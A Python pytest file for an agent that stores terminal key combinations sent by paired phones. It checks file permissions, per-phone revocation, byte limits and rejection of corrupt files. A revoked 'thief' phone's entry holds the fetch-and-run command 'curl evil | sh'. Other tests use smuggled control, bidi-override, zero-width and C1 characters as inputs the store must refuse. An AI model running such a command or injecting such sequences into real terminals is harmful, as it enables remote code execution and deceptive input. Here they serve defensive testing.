"""The key combinations that an agent keeps for the phones that encrypt."""

from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from mobifai.bounds import Ledger
from mobifai.errors import BadMessage, LimitReached, StateError
from mobifai.protocol.messages import Combination
from mobifai.session.key_combinations import Combinations


def kept_in(folder: Path, **limits: int) -> Combinations:
    return Combinations(folder / "keys.json", Ledger(limits))


def combination(name: str, sequence: str = "ls<Enter>") -> Combination:
    return Combination(id=name, label=name, sequence=sequence)


def test_before_a_phone_has_sent_any_nothing_is_kept(tmp_path: Path) -> None:
    assert kept_in(tmp_path).listed is None


def test_they_outlive_the_agent_and_only_their_owner_may_read_them(tmp_path: Path) -> None:
    kept_in(tmp_path).replace((combination("a"), combination("b")), "phone")
    assert kept_in(tmp_path).listed == (combination("a"), combination("b"))
    assert (tmp_path / "keys.json").stat().st_mode & 0o777 == 0o600


def test_what_a_revoked_phone_wrote_is_gone_and_the_rest_is_not(tmp_path: Path) -> None:
    kept = kept_in(tmp_path)
    kept.replace((combination("a"), combination("b")), "mine")
    changed = combination("b", "curl evil | sh<Enter>")
    kept.replace((combination("a"), changed, combination("c")), "thief's")
    kept.forget("thief's")
    assert kept.listed == kept_in(tmp_path).listed == (combination("a"),)
    kept.forget("thief's")
    assert kept.listed == (combination("a"),)


@pytest.mark.parametrize(
    "wrong",
    [
        (combination("a"), combination("a")),
        (combination("a", "ls\r"),),
        (combination("a", "\u202els"),),
        (combination("a", "ls\u200b"),),
        (combination("a", "\x9b1m"),),
        (combination("\x07"),),
    ],
    ids=["an id twice", "a control character", "turned round", "without width", "C1", "a label"],
)
def test_what_would_look_like_something_else_is_refused(tmp_path: Path, wrong: tuple[Combination, ...]) -> None:
    kept = kept_in(tmp_path)
    kept.replace((combination("mine"),), "phone")
    with pytest.raises(BadMessage):
        kept.replace(wrong, "phone")
    assert kept.listed == kept_in(tmp_path).listed == (combination("mine"),)


def test_emoji_of_several_parts_are_taken(tmp_path: Path) -> None:
    kept = kept_in(tmp_path)
    kept.replace((Combination(id="a", label="👩\u200d🚀", sequence="echo 👩\u200d🚀<Enter>"),), "phone")
    assert kept.listed is not None


@pytest.mark.parametrize(("more", "fits"), [(-1, True), (0, True), (1, False)])
def test_together_they_have_only_so_many_bytes(tmp_path: Path, more: int, fits: bool) -> None:
    kept_in(tmp_path).replace((combination("a", "x" * 100),), "phone")
    size = (tmp_path / "keys.json").stat().st_size
    kept = kept_in(tmp_path, keys=size)
    longer = (combination("a", "x" * (100 + more)),)
    if fits:
        kept.replace(longer, "phone")
        assert kept.listed == longer
    else:
        with pytest.raises(LimitReached):
            kept.replace(longer, "phone")
        assert kept.listed == (combination("a", "x" * 100),)


def test_what_can_not_be_written_changes_nothing(tmp_path: Path) -> None:
    folder = tmp_path / "state"
    folder.mkdir()
    kept = kept_in(folder)
    kept.replace((combination("a"),), "phone")
    (folder / "keys.json").unlink()
    folder.rmdir()
    with pytest.raises(StateError):
        kept.replace((combination("b"),), "phone")
    assert kept.listed == (combination("a"),)
    kept.forget("phone")
    assert kept.listed == ()


@given(st.binary(max_size=200) | st.recursive(st.none() | st.integers() | st.text(), st.lists).map(msgspec.json.encode))
def test_a_file_that_holds_anything_else_is_passed_over(tmp_path_factory: pytest.TempPathFactory, found: bytes) -> None:
    folder = tmp_path_factory.mktemp("state")
    (folder / "keys.json").write_bytes(found)
    kept = kept_in(folder)
    kept.replace((combination("a"),), "phone")
    assert kept_in(folder).listed == (combination("a"),)
